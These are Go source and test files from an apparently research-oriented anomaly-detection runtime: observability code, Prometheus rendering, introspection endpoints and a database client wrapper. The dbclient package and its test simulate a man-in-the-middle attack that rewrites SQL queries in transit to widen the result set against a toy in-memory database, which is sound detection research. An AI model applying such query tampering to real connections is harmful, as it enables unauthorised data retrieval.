	code, body, _ := get(t, srv.URL+"/")
	if code != http.StatusOK || !strings.Contains(body, "/debug/pprof/") {
		t.Errorf("route index = %d %q", code, body)
	}
	if code, _, _ := get(t, srv.URL+"/nope"); code != http.StatusNotFound {
		t.Errorf("unknown path = %d, want 404", code)
	}
	if code, body, _ := get(t, srv.URL+"/debug/pprof/cmdline"); code != http.StatusOK || body == "" {
		t.Errorf("pprof cmdline = %d (len %d), want 200 with a body", code, len(body))
	}
	// Endpoints without a wired hook answer 404 rather than panicking.
	if code, _, _ := get(t, srv.URL+"/metrics"); code != http.StatusNotFound {
		t.Errorf("unwired /metrics = %d, want 404", code)
	}
}
