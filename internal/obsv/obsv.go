// Package obsv is the observability layer of the detection runtime: decision
// provenance (a compact, bounded record of per-window judgements answering
// "why did window W on session S flag under generation G?"), a Prometheus
// text-format renderer for the runtime's counters and latency histograms, and
// the live introspection HTTP handler (/metrics, /decisions, /healthz,
// /readyz, pprof).
//
// The package is deliberately free of runtime dependencies: the runtime
// records decisions into a Recorder it owns, and the HTTP handler is wired
// with plain functions, so obsv never imports the packages it observes.
package obsv

import (
	"sort"
	"sync"
	"sync/atomic"
)

// Decision is the provenance record of one completed-window judgement: who
// (session), where (window-end sequence number in the stream), when (the
// op's single monotonic-clock capture, as wall nanoseconds), what the engine
// computed (per-symbol window log-probability against the threshold), the
// verdict, and which profile generation scored it. For alerts, Label and
// Caller identify the triggering call — the caller context that explains an
// OutOfContext flag. The struct is flat and pointer-free (its strings alias
// interned call metadata), so recording one never allocates.
type Decision struct {
	Session    string  `json:"session"`
	Seq        int     `json:"seq"`
	UnixNanos  int64   `json:"unix_nanos"`
	Score      float64 `json:"score"`
	Threshold  float64 `json:"threshold"`
	Flag       string  `json:"flag"`
	Flagged    bool    `json:"flagged"`
	Generation uint64  `json:"generation"`
	Label      string  `json:"label,omitempty"`
	Caller     string  `json:"caller,omitempty"`
	// ScoreErrorBound is the per-symbol bound on |approx−exact| of Score when
	// the session scored under a pruned (top-K) kernel; 0 under the exact
	// kernel. A vacuous (+Inf) bound is clamped to MaxFloat64 so the decision
	// log stays valid JSON.
	ScoreErrorBound float64 `json:"score_error_bound,omitempty"`

	// Channel provenance: which detection channels raised this alert
	// (detect.ChannelNames entries), the SQL channel's window judgement, and
	// the fused anomaly margin. All empty/zero on single-channel runtimes
	// and on sampled Normal judgements.
	Channels     []string `json:"channels,omitempty"`
	SQLScore     float64  `json:"sql_score,omitempty"`
	SQLThreshold float64  `json:"sql_threshold,omitempty"`
	FusedScore   float64  `json:"fused_score,omitempty"`

	// Shed provenance: when risk-aware admission (ShedByRisk) rejects calls
	// instead of scoring them, the runtime records a Decision with Shed=true
	// so an operator can see exactly what was not scored and why. ShedCalls
	// is the number of calls rejected by this decision, SessionShed the
	// session's cumulative shed-call count, Risk the session's risk score at
	// decision time, and Occupancy the worker-queue occupancy (0..1) that
	// triggered shedding. All zero (and omitted from JSON) for scored
	// windows.
	Shed        bool    `json:"shed,omitempty"`
	ShedCalls   int     `json:"shed_calls,omitempty"`
	SessionShed uint64  `json:"session_shed,omitempty"`
	Risk        float64 `json:"risk,omitempty"`
	Occupancy   float64 `json:"occupancy,omitempty"`

	// Trace is the ID of the decision trace covering the op that produced
	// this judgement, when tracing is enabled — the correlation key into
	// /traces/{id}. Empty (and omitted, keeping the decision log bit-identical
	// to a trace-free build) when tracing is off.
	Trace string `json:"trace,omitempty"`
}

// Recorder samples judgement decisions into a bounded ring. The sampling
// policy is 1-in-N for unflagged (Normal) judgements — gated by one atomic
// add, so skipped judgements never touch the ring's mutex — plus
// always-sample for alerts, so the evidence for every flagged window
// survives.
//
// Eviction keeps alerts: a full ring always overwrites its oldest unflagged
// decision while one exists (an O(1) pop off the unflagged-slot queue), so a
// flagged decision is only ever evicted by newer flagged decisions once the
// whole ring is alerts. Record never allocates.
type Recorder struct {
	every uint64
	gate  atomic.Uint64

	recorded atomic.Uint64 // decisions written into the ring
	skipped  atomic.Uint64 // unflagged judgements the sampler passed over

	mu   sync.Mutex
	buf  []Decision
	seqs []uint64 // per-slot commit index: the newest-first sort key
	seq  uint64   // monotonic commit counter
	n    int      // live entries
	next int      // ring cursor used once every slot holds an alert

	// unflagged is a FIFO queue (ring over a fixed slice) of the slot indices
	// currently holding unflagged decisions, in write order. Eviction pops
	// the front — the oldest unflagged decision — in O(1) instead of sweeping
	// the ring, which costs O(capacity) per write once alerts accumulate.
	unflagged []int
	ufHead    int
	ufLen     int
}

// NewRecorder builds a recorder keeping the last capacity decisions and
// sampling one in sampleEvery unflagged judgements (alerts are always
// recorded). capacity ≤ 0 disables recording entirely (Record becomes a
// no-op); sampleEvery ≤ 1 records every judgement.
func NewRecorder(capacity, sampleEvery int) *Recorder {
	r := &Recorder{}
	if sampleEvery > 1 {
		r.every = uint64(sampleEvery)
	}
	if capacity > 0 {
		r.buf = make([]Decision, capacity)
		r.seqs = make([]uint64, capacity)
		r.unflagged = make([]int, capacity)
	}
	return r
}

// Enabled reports whether the recorder keeps any decisions.
func (r *Recorder) Enabled() bool { return r != nil && r.buf != nil }

// Record applies the sampling policy to one decision and reports whether it
// was kept. Safe for concurrent use from many workers.
func (r *Recorder) Record(d Decision) bool {
	if !r.Enabled() {
		return false
	}
	if !d.Flagged && r.every > 1 && r.gate.Add(1)%r.every != 0 {
		r.skipped.Add(1)
		return false
	}
	r.write(d)
	return true
}

// write commits one decision under the keep-alerts eviction policy: a full
// ring evicts its oldest unflagged decision while one exists; only an
// all-alert ring evicts a flagged decision (round-robin at the cursor). The
// unflagged-slot queue makes both cases O(1) per write.
func (r *Recorder) write(d Decision) {
	r.recorded.Add(1)
	r.mu.Lock()
	var slot int
	switch {
	case r.n < len(r.buf):
		slot = r.n
		r.n++
	case r.ufLen > 0:
		slot = r.unflagged[r.ufHead]
		r.ufHead = (r.ufHead + 1) % len(r.unflagged)
		r.ufLen--
	default:
		slot = r.next
		r.next = (slot + 1) % len(r.buf)
	}
	r.buf[slot] = d
	r.seqs[slot] = r.seq
	r.seq++
	if !d.Flagged {
		r.unflagged[(r.ufHead+r.ufLen)%len(r.unflagged)] = slot
		r.ufLen++
	}
	r.mu.Unlock()
}

// RecordAlways writes one decision into the ring, bypassing the 1-in-N
// sampling gate. Used for decisions that must survive regardless of volume:
// the first shed on a session, like an alert, is evidence an operator needs.
func (r *Recorder) RecordAlways(d Decision) bool {
	if !r.Enabled() {
		return false
	}
	r.write(d)
	return true
}

// Recorded returns the number of decisions written into the ring since
// creation; Skipped the unflagged judgements the 1-in-N gate passed over.
func (r *Recorder) Recorded() uint64 { return r.recorded.Load() }
func (r *Recorder) Skipped() uint64  { return r.skipped.Load() }

// Decisions returns up to limit of the most recent decisions, newest first.
// limit ≤ 0 returns everything retained.
func (r *Recorder) Decisions(limit int) []Decision {
	if !r.Enabled() {
		return nil
	}
	r.mu.Lock()
	type entry struct {
		seq uint64
		idx int
	}
	live := make([]entry, r.n)
	for i := 0; i < r.n; i++ {
		live[i] = entry{r.seqs[i], i}
	}
	// Keep-alerts eviction writes out of ring order, so newest-first comes
	// from the per-slot commit index, not slot position.
	sort.Slice(live, func(i, j int) bool { return live[i].seq > live[j].seq })
	if limit <= 0 || limit > len(live) {
		limit = len(live)
	}
	out := make([]Decision, limit)
	for i := 0; i < limit; i++ {
		out[i] = r.buf[live[i].idx]
	}
	r.mu.Unlock()
	return out
}
