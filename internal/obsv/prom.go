package obsv

import (
	"fmt"
	"io"
	"math"
	"strconv"
	"strings"

	"adprom/internal/metrics"
)

// PromWriter renders metric families in the Prometheus text exposition
// format (version 0.0.4) using only the standard library. Families are
// written in call order; the first error sticks and is reported by Err.
type PromWriter struct {
	w   io.Writer
	err error
}

// NewPromWriter wraps w.
func NewPromWriter(w io.Writer) *PromWriter { return &PromWriter{w: w} }

// Err returns the first write error, nil if all writes succeeded.
func (p *PromWriter) Err() error { return p.err }

func (p *PromWriter) printf(format string, args ...any) {
	if p.err != nil {
		return
	}
	_, p.err = fmt.Fprintf(p.w, format, args...)
}

// Family writes the # HELP and # TYPE header of one metric family; typ is
// "counter", "gauge", or "histogram".
func (p *PromWriter) Family(name, typ, help string) {
	p.printf("# HELP %s %s\n# TYPE %s %s\n", name, escapeHelp(help), name, typ)
}

// Counter writes a single-series counter family.
func (p *PromWriter) Counter(name, help string, v float64) {
	p.Family(name, "counter", help)
	p.Sample(name, nil, v)
}

// Gauge writes a single-series gauge family.
func (p *PromWriter) Gauge(name, help string, v float64) {
	p.Family(name, "gauge", help)
	p.Sample(name, nil, v)
}

// Sample writes one series line. Labels are name/value pairs rendered in the
// given order; values are escaped per the exposition format.
func (p *PromWriter) Sample(name string, labels [][2]string, v float64) {
	if len(labels) == 0 {
		p.printf("%s %s\n", name, formatValue(v))
		return
	}
	var sb strings.Builder
	for i, l := range labels {
		if i > 0 {
			sb.WriteByte(',')
		}
		// %q escapes quotes, backslashes, and newlines exactly as the
		// exposition format requires.
		fmt.Fprintf(&sb, "%s=%q", l[0], l[1])
	}
	p.printf("%s{%s} %s\n", name, sb.String(), formatValue(v))
}

// Histogram writes one metrics.HistogramSnapshot as a Prometheus histogram:
// cumulative le-buckets at the power-of-two bounds (trailing empty buckets
// collapse into the +Inf series), then _sum and _count. Values are in
// seconds, the Prometheus convention for durations.
func (p *PromWriter) Histogram(name, help string, h metrics.HistogramSnapshot) {
	p.Family(name, "histogram", help)
	p.HistogramSamples(name, nil, h)
}

// HistogramSamples writes one histogram's series (cumulative le-buckets,
// _sum, _count) without a family header, with labels prepended to every
// series — the building block for multi-series histogram families such as
// the per-tenant latency histograms, where Family is written once and each
// tenant contributes one labelled sample set.
func (p *PromWriter) HistogramSamples(name string, labels [][2]string, h metrics.HistogramSnapshot) {
	last := 0
	for i, n := range h.Buckets {
		if n > 0 {
			last = i + 1
		}
	}
	bucketLabels := func(le string) [][2]string {
		out := make([][2]string, 0, len(labels)+1)
		out = append(out, labels...)
		return append(out, [2]string{"le", le})
	}
	var cum uint64
	for i := 0; i < last && i < metrics.HistBuckets-1; i++ {
		cum += h.Buckets[i]
		le := metrics.BucketBound(i) / 1e9
		p.Sample(name+"_bucket", bucketLabels(formatValue(le)), float64(cum))
	}
	p.Sample(name+"_bucket", bucketLabels("+Inf"), float64(h.Count))
	p.Sample(name+"_sum", labels, float64(h.Sum)/1e9)
	p.Sample(name+"_count", labels, float64(h.Count))
}

func formatValue(v float64) string {
	if math.IsInf(v, 1) {
		return "+Inf"
	}
	return strconv.FormatFloat(v, 'g', -1, 64)
}

func escapeHelp(s string) string {
	r := strings.NewReplacer(`\`, `\\`, "\n", `\n`)
	return r.Replace(s)
}

// WriteLifecycleProm renders the profile-lifecycle counters (drift sampling,
// retraining outcomes, swap bookkeeping, the retrain-duration histogram) as
// adprom_lifecycle_* families.
func WriteLifecycleProm(w io.Writer, s metrics.LifecycleSnapshot) error {
	p := NewPromWriter(w)
	p.Counter("adprom_lifecycle_drift_samples_total", "Judgements folded into the drift estimator.", float64(s.DriftSamples))
	p.Counter("adprom_lifecycle_drift_signals_total", "Confirmed drift verdicts.", float64(s.DriftSignals))
	p.Counter("adprom_lifecycle_retrains_started_total", "Background retraining runs started.", float64(s.RetrainsStarted))
	p.Counter("adprom_lifecycle_retrains_succeeded_total", "Background retraining runs that published a generation.", float64(s.RetrainsSucceeded))
	p.Counter("adprom_lifecycle_retrains_failed_total", "Background retraining runs that failed.", float64(s.RetrainsFailed))
	p.Counter("adprom_lifecycle_swaps_total", "Profile generations hot-swapped by the lifecycle manager.", float64(s.Swaps))
	p.Counter("adprom_lifecycle_traces_recorded_total", "Judged-Normal traces recorded into the retraining corpus.", float64(s.TracesRecorded))
	p.Counter("adprom_lifecycle_traces_evicted_total", "Traces evicted from the bounded retraining corpus.", float64(s.TracesEvicted))
	p.Histogram("adprom_lifecycle_retrain_duration_seconds", "Duration of completed background retraining runs.", s.Retrain)
	return p.Err()
}
