package obsv

import (
	runtimemetrics "runtime/metrics"
	"strings"
	"testing"
)

// TestGoRuntimePromBidirectional holds goRuntimeSamples bidirectional
// against both sides of the contract: every mapped family must be rendered
// (with a # TYPE header), every rendered adprom_go_* family must be mapped,
// and every runtime/metrics name in the map must exist in the running
// toolchain's metrics.All() — so a Go upgrade that renames a sample fails
// CI instead of silently exporting zeros.
func TestGoRuntimePromBidirectional(t *testing.T) {
	var buf strings.Builder
	if err := WriteGoRuntimeProm(&buf, BuildInfo{Version: "test", ScorerDispatch: "go"}); err != nil {
		t.Fatal(err)
	}
	out := buf.String()

	for family := range goRuntimeSamples {
		if !strings.Contains(out, "# TYPE "+family+" ") {
			t.Errorf("mapped family %s not rendered by WriteGoRuntimeProm", family)
		}
	}

	for _, line := range strings.Split(out, "\n") {
		if !strings.HasPrefix(line, "# TYPE adprom_go_") {
			continue
		}
		family := strings.Fields(line)[2]
		if _, ok := goRuntimeSamples[family]; !ok {
			t.Errorf("rendered family %s has no goRuntimeSamples entry; extend the map", family)
		}
	}

	known := map[string]bool{}
	for _, d := range runtimemetrics.All() {
		known[d.Name] = true
	}
	for family, sample := range goRuntimeSamples {
		if !known[sample] {
			t.Errorf("%s is backed by %q, which this toolchain's runtime/metrics does not export", family, sample)
		}
	}
}

// TestGoRuntimePromContent sanity-checks the rendered samples: a live
// goroutine count, heap bytes, the GC pause summary series, and the build
// provenance gauge with all three labels.
func TestGoRuntimePromContent(t *testing.T) {
	var buf strings.Builder
	if err := WriteGoRuntimeProm(&buf, BuildInfo{Version: "v1.2.3", ScorerDispatch: "avx2"}); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, want := range []string{
		"adprom_go_goroutines ",
		"adprom_go_heap_live_bytes ",
		`adprom_go_gc_pause_seconds{quantile="0.5"}`,
		`adprom_go_gc_pause_seconds{quantile="0.99"}`,
		"adprom_go_gc_pause_seconds_count ",
		`adprom_build_info{version="v1.2.3",go_version="go`,
		`scorer_dispatch="avx2"} 1`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("exposition missing %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "adprom_go_goroutines 0\n") {
		t.Error("goroutine count of 0 in a running process")
	}
	// An empty version resolves from the binary's build info, never to "".
	buf.Reset()
	if err := WriteGoRuntimeProm(&buf, BuildInfo{ScorerDispatch: "go"}); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(buf.String(), `version=""`) {
		t.Error("empty version label; buildVersion fallback did not apply")
	}
}
