package obsv

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/pprof"
	"strconv"
	"strings"

	"adprom/internal/trace"
)

// ServerConfig wires the introspection handler to a live runtime without
// obsv importing it: every hook is a plain function. Nil hooks disable the
// corresponding endpoint (it answers 404).
type ServerConfig struct {
	// Metrics renders the Prometheus exposition for /metrics.
	Metrics func(w io.Writer) error
	// Decisions returns the most recent provenance records (newest first) for
	// /decisions; limit ≤ 0 means everything retained.
	Decisions func(limit int) []Decision
	// Traces returns the most recent retained decision traces (newest first)
	// for /traces; limit ≤ 0 means everything retained.
	Traces func(limit int) []trace.Trace
	// TraceByID resolves one decision trace for /traces/{id}.
	TraceByID func(id string) (trace.Trace, bool)
	// Healthz reports process liveness: nil while the serving process is able
	// to make progress at all.
	Healthz func() error
	// Readyz reports serving readiness: nil while the runtime accepts ingest
	// (workers supervised, a profile generation published, not draining).
	Readyz func() error
}

// NewHandler builds the introspection endpoint: /metrics (Prometheus text
// format), /decisions (recent provenance as JSON), /traces and /traces/{id}
// (retained decision traces as JSON — the forensic feed behind adprom
// explain), /healthz and /readyz (200 ok / 503 with the cause), and the
// net/http/pprof suite under /debug/pprof/. GET / lists the routes.
func NewHandler(cfg ServerConfig) http.Handler {
	mux := http.NewServeMux()
	if cfg.Metrics != nil {
		mux.HandleFunc("/metrics", func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
			if err := cfg.Metrics(w); err != nil {
				// Headers are gone; all we can do is abort the body.
				return
			}
		})
	}
	if cfg.Decisions != nil {
		mux.HandleFunc("/decisions", func(w http.ResponseWriter, r *http.Request) {
			limit := 100
			if s := r.URL.Query().Get("limit"); s != "" {
				n, err := strconv.Atoi(s)
				if err != nil {
					http.Error(w, "bad limit: "+err.Error(), http.StatusBadRequest)
					return
				}
				limit = n
			}
			ds := cfg.Decisions(limit)
			if ds == nil {
				ds = []Decision{}
			}
			w.Header().Set("Content-Type", "application/json")
			enc := json.NewEncoder(w)
			enc.SetIndent("", "  ")
			_ = enc.Encode(ds)
		})
	}
	if cfg.Traces != nil {
		mux.HandleFunc("/traces", func(w http.ResponseWriter, r *http.Request) {
			limit := 100
			if s := r.URL.Query().Get("limit"); s != "" {
				n, err := strconv.Atoi(s)
				if err != nil {
					http.Error(w, "bad limit: "+err.Error(), http.StatusBadRequest)
					return
				}
				limit = n
			}
			trs := cfg.Traces(limit)
			if trs == nil {
				trs = []trace.Trace{}
			}
			w.Header().Set("Content-Type", "application/json")
			enc := json.NewEncoder(w)
			enc.SetIndent("", "  ")
			_ = enc.Encode(trs)
		})
	}
	if cfg.TraceByID != nil {
		mux.HandleFunc("/traces/", func(w http.ResponseWriter, r *http.Request) {
			id := strings.TrimPrefix(r.URL.Path, "/traces/")
			if id == "" || strings.ContainsRune(id, '/') {
				http.NotFound(w, r)
				return
			}
			tr, ok := cfg.TraceByID(id)
			if !ok {
				http.Error(w, "no such trace: "+id, http.StatusNotFound)
				return
			}
			w.Header().Set("Content-Type", "application/json")
			enc := json.NewEncoder(w)
			enc.SetIndent("", "  ")
			_ = enc.Encode(tr)
		})
	}
	probe := func(check func() error) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/plain; charset=utf-8")
			if err := check(); err != nil {
				w.WriteHeader(http.StatusServiceUnavailable)
				fmt.Fprintf(w, "unavailable: %v\n", err)
				return
			}
			fmt.Fprintln(w, "ok")
		}
	}
	if cfg.Healthz != nil {
		mux.HandleFunc("/healthz", probe(cfg.Healthz))
	}
	if cfg.Readyz != nil {
		mux.HandleFunc("/readyz", probe(cfg.Readyz))
	}
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		fmt.Fprintln(w, "adprom introspection endpoints:")
		for _, route := range []string{"/metrics", "/decisions?limit=N", "/traces?limit=N", "/traces/{id}", "/healthz", "/readyz", "/debug/pprof/"} {
			fmt.Fprintln(w, "  "+route)
		}
	})
	return mux
}
