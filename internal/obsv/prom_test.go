package obsv

import (
	"errors"
	"fmt"
	"strconv"
	"strings"
	"testing"

	"adprom/internal/metrics"
)

// checkPromText is a minimal validator of the Prometheus text exposition
// format: every non-comment line must be `name[{labels}] value`, every series
// must follow a # TYPE header for its family, and histogram bucket counts
// must be cumulative.
func checkPromText(t *testing.T, text string) map[string]float64 {
	t.Helper()
	typed := map[string]string{}
	series := map[string]float64{}
	for ln, line := range strings.Split(strings.TrimRight(text, "\n"), "\n") {
		if line == "" {
			t.Fatalf("line %d: empty line in exposition", ln+1)
		}
		if strings.HasPrefix(line, "# HELP ") {
			continue
		}
		if strings.HasPrefix(line, "# TYPE ") {
			parts := strings.Fields(line)
			if len(parts) != 4 {
				t.Fatalf("line %d: malformed TYPE: %q", ln+1, line)
			}
			typed[parts[2]] = parts[3]
			continue
		}
		sp := strings.LastIndexByte(line, ' ')
		if sp < 0 {
			t.Fatalf("line %d: no value separator: %q", ln+1, line)
		}
		key, val := line[:sp], line[sp+1:]
		if _, err := strconv.ParseFloat(val, 64); err != nil && val != "+Inf" {
			t.Fatalf("line %d: unparseable value %q: %v", ln+1, val, err)
		}
		name := key
		if i := strings.IndexByte(key, '{'); i >= 0 {
			name = key[:i]
			if !strings.HasSuffix(key, "}") {
				t.Fatalf("line %d: unterminated label set: %q", ln+1, line)
			}
		}
		family := name
		for _, suf := range []string{"_bucket", "_sum", "_count"} {
			if f, ok := strings.CutSuffix(name, suf); ok && typed[f] == "histogram" {
				family = f
				break
			}
		}
		if _, ok := typed[family]; !ok {
			t.Errorf("line %d: series %q has no preceding # TYPE header", ln+1, name)
		}
		f, _ := strconv.ParseFloat(val, 64)
		series[key] = f
	}
	return series
}

func TestPromWriterCounterGauge(t *testing.T) {
	var sb strings.Builder
	p := NewPromWriter(&sb)
	p.Counter("adprom_test_total", "A counter.", 42)
	p.Gauge("adprom_test_gauge", "A gauge.", -1.5)
	if err := p.Err(); err != nil {
		t.Fatal(err)
	}
	series := checkPromText(t, sb.String())
	if series["adprom_test_total"] != 42 {
		t.Errorf("counter = %g, want 42", series["adprom_test_total"])
	}
	if series["adprom_test_gauge"] != -1.5 {
		t.Errorf("gauge = %g, want -1.5", series["adprom_test_gauge"])
	}
}

func TestPromWriterLabelEscaping(t *testing.T) {
	var sb strings.Builder
	p := NewPromWriter(&sb)
	p.Family("m", "gauge", `help with \ backslash
and newline`)
	p.Sample("m", [][2]string{{"flag", `quo"te\back`}}, 1)
	if err := p.Err(); err != nil {
		t.Fatal(err)
	}
	out := sb.String()
	if !strings.Contains(out, `flag="quo\"te\\back"`) {
		t.Errorf("label value not escaped: %q", out)
	}
	if !strings.Contains(out, `help with \\ backslash\nand newline`) {
		t.Errorf("help text not escaped: %q", out)
	}
}

func TestPromWriterHistogram(t *testing.T) {
	var h metrics.Histogram
	for _, v := range []int64{1, 3, 5, 1000, 2_000_000} {
		h.Observe(v)
	}
	var sb strings.Builder
	p := NewPromWriter(&sb)
	p.Histogram("adprom_test_seconds", "Latencies.", h.Snapshot())
	if err := p.Err(); err != nil {
		t.Fatal(err)
	}
	series := checkPromText(t, sb.String())

	if got := series["adprom_test_seconds_count"]; got != 5 {
		t.Errorf("_count = %g, want 5", got)
	}
	wantSum := float64(1+3+5+1000+2_000_000) / 1e9
	if got := series["adprom_test_seconds_sum"]; got != wantSum {
		t.Errorf("_sum = %g, want %g", got, wantSum)
	}
	if got := series[`adprom_test_seconds_bucket{le="+Inf"}`]; got != 5 {
		t.Errorf("+Inf bucket = %g, want 5", got)
	}
	// Buckets must be cumulative: each le series ≥ the previous one, and the
	// smallest bucket (le=1e-09, i.e. ≤1ns) holds exactly the value 1.
	if got := series[`adprom_test_seconds_bucket{le="1e-09"}`]; got != 1 {
		t.Errorf("le=1e-09 bucket = %g, want 1", got)
	}
	var prev float64
	for i := 0; i < metrics.HistBuckets-1; i++ {
		key := fmt.Sprintf(`adprom_test_seconds_bucket{le="%s"}`, formatValue(metrics.BucketBound(i)/1e9))
		got, ok := series[key]
		if !ok {
			continue // trailing empty buckets collapse into +Inf
		}
		if got < prev {
			t.Errorf("bucket %s = %g < previous %g; not cumulative", key, got, prev)
		}
		prev = got
	}
}

func TestPromWriterStickyError(t *testing.T) {
	p := NewPromWriter(failWriter{})
	p.Counter("a_total", "h", 1)
	p.Gauge("b", "h", 2)
	if p.Err() == nil {
		t.Fatal("expected the first write error to stick")
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("sink failed") }

func TestWriteLifecycleProm(t *testing.T) {
	var lc metrics.Lifecycle
	lc.AddDriftSample()
	lc.AddDriftSignal()
	lc.AddRetrainStarted()
	lc.AddRetrainSucceeded()
	lc.AddSwap()
	lc.ObserveRetrain(5_000_000)

	var sb strings.Builder
	if err := WriteLifecycleProm(&sb, lc.Snapshot()); err != nil {
		t.Fatal(err)
	}
	series := checkPromText(t, sb.String())
	for key, want := range map[string]float64{
		"adprom_lifecycle_drift_samples_total":            1,
		"adprom_lifecycle_drift_signals_total":            1,
		"adprom_lifecycle_retrains_started_total":         1,
		"adprom_lifecycle_retrains_succeeded_total":       1,
		"adprom_lifecycle_retrains_failed_total":          0,
		"adprom_lifecycle_swaps_total":                    1,
		"adprom_lifecycle_retrain_duration_seconds_count": 1,
	} {
		if got := series[key]; got != want {
			t.Errorf("%s = %g, want %g", key, got, want)
		}
	}
}
