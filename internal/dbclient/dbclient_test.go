package dbclient

import (
	"errors"
	"reflect"
	"strings"
	"testing"

	"adprom/internal/minidb"
)

func seed(t *testing.T) *minidb.Database {
	t.Helper()
	db := minidb.New()
	db.MustExec("CREATE TABLE items (id INT, name TEXT)")
	db.MustExec("INSERT INTO items VALUES (10, 'a'), (11, 'b'), (12, 'c')")
	return db
}

func TestExecAndRandomAccess(t *testing.T) {
	c := Connect(seed(t))
	res, err := c.Exec("SELECT * FROM items WHERE id = 10")
	if err != nil {
		t.Fatalf("Exec: %v", err)
	}
	if res.NTuples() != 1 || res.NFields() != 2 {
		t.Fatalf("shape = (%d, %d), want (1, 2)", res.NTuples(), res.NFields())
	}
	if got := res.Value(0, 1); got != "a" {
		t.Errorf("Value(0,1) = %q, want a", got)
	}
	if got := res.Value(9, 9); got != "" {
		t.Errorf("out-of-range Value = %q, want empty", got)
	}
	if c.LastError() != nil {
		t.Errorf("LastError = %v after success", c.LastError())
	}
}

func TestFetchRowCursor(t *testing.T) {
	c := Connect(seed(t))
	res, err := c.Exec("SELECT name FROM items ORDER BY id")
	if err != nil {
		t.Fatalf("Exec: %v", err)
	}
	var names []string
	for {
		row, ok := res.FetchRow()
		if !ok {
			break
		}
		names = append(names, row[0])
	}
	if want := []string{"a", "b", "c"}; !reflect.DeepEqual(names, want) {
		t.Errorf("fetched %v, want %v", names, want)
	}
	if _, ok := res.FetchRow(); ok {
		t.Error("FetchRow after exhaustion returned ok")
	}
	res.ResetCursor()
	if row, ok := res.FetchRow(); !ok || row[0] != "a" {
		t.Errorf("after ResetCursor got (%v, %v)", row, ok)
	}
}

func TestExecErrorSetsLastError(t *testing.T) {
	c := Connect(seed(t))
	_, err := c.Exec("SELECT * FROM missing")
	if err == nil {
		t.Fatal("Exec on missing table succeeded")
	}
	if !errors.Is(err, minidb.ErrNoTable) {
		t.Errorf("error %v does not wrap ErrNoTable", err)
	}
	if c.LastError() == nil {
		t.Error("LastError not recorded")
	}
	// A subsequent success clears it.
	if _, err := c.Exec("SELECT * FROM items"); err != nil {
		t.Fatalf("Exec: %v", err)
	}
	if c.LastError() != nil {
		t.Error("LastError not cleared after success")
	}
}

func TestClose(t *testing.T) {
	c := Connect(seed(t))
	c.Close()
	c.Close() // double close is fine
	if !c.Closed() {
		t.Error("Closed() = false after Close")
	}
	if _, err := c.Exec("SELECT * FROM items"); !errors.Is(err, ErrClosed) {
		t.Errorf("Exec after close error = %v, want ErrClosed", err)
	}
}

// TestMITMRewriter reproduces attack 3.2: the application submits a narrow
// query, the man-in-the-middle widens it in transit, and the application
// observes (and iterates over) the inflated result set.
func TestMITMRewriter(t *testing.T) {
	c := Connect(seed(t))
	c.SetRewriter(func(q string) string {
		return strings.Replace(q, "id = 10", "id >= 10", 1)
	})
	res, err := c.Exec("SELECT * FROM items WHERE id = 10")
	if err != nil {
		t.Fatalf("Exec: %v", err)
	}
	if res.NTuples() != 3 {
		t.Fatalf("MITM query returned %d rows, want 3", res.NTuples())
	}
	wire := c.WireQueries()
	if len(wire) != 1 || !strings.Contains(wire[0], "id >= 10") {
		t.Errorf("WireQueries = %v, want rewritten query", wire)
	}

	c.SetRewriter(nil)
	res, err = c.Exec("SELECT * FROM items WHERE id = 10")
	if err != nil {
		t.Fatalf("Exec: %v", err)
	}
	if res.NTuples() != 1 {
		t.Errorf("after clearing rewriter, rows = %d, want 1", res.NTuples())
	}
}

func TestAffected(t *testing.T) {
	c := Connect(seed(t))
	res, err := c.Exec("UPDATE items SET name = 'x' WHERE id >= 11")
	if err != nil {
		t.Fatalf("Exec: %v", err)
	}
	if res.Affected() != 2 {
		t.Errorf("Affected = %d, want 2", res.Affected())
	}
}

func TestNilResultAccessors(t *testing.T) {
	var r *Result
	if r.NTuples() != 0 || r.NFields() != 0 || r.Value(0, 0) != "" || r.Affected() != 0 {
		t.Error("nil Result accessors are not lenient")
	}
	if _, ok := r.FetchRow(); ok {
		t.Error("nil Result FetchRow returned ok")
	}
	r.ResetCursor() // must not panic
}
