// Package dbclient provides client-library semantics over internal/minidb.
//
// The paper's monitored applications use the C client stacks of PostgreSQL
// (libpq: PQexec, PQntuples, PQgetvalue) and MySQL (mysql_query,
// mysql_store_result, mysql_fetch_row). The interpreter's library-call
// builtins delegate to this package, which supplies the stateful pieces those
// APIs need: connections, result handles, and MySQL's row cursor.
//
// A connection optionally carries a query rewriter, which models the paper's
// attack 3.2: a man-in-the-middle on an unencrypted connection that rewrites
// the query in transit to retrieve more data. The rewriter sits exactly where
// the network would be — between the client call and the engine — so the
// application code is byte-for-byte unchanged while its observable call
// sequence grows with the inflated result set.
package dbclient

import (
	"errors"
	"fmt"

	"adprom/internal/minidb"
)

// ErrClosed is returned when a closed connection is used.
var ErrClosed = errors.New("dbclient: connection is closed")

// Rewriter transforms query text in transit. A nil Rewriter is the identity.
type Rewriter func(query string) string

// Conn is a client connection to a database.
type Conn struct {
	db       *minidb.Database
	rewriter Rewriter
	closed   bool
	lastErr  error
	queries  []string // queries as observed on the wire (post-rewrite)
}

// Connect opens a connection to db.
func Connect(db *minidb.Database) *Conn {
	return &Conn{db: db}
}

// SetRewriter installs (or clears, with nil) the in-transit query rewriter.
func (c *Conn) SetRewriter(r Rewriter) { c.rewriter = r }

// Exec runs one query and returns its result. The returned Result carries a
// fetch cursor for the MySQL-style iteration idiom.
func (c *Conn) Exec(query string) (*Result, error) {
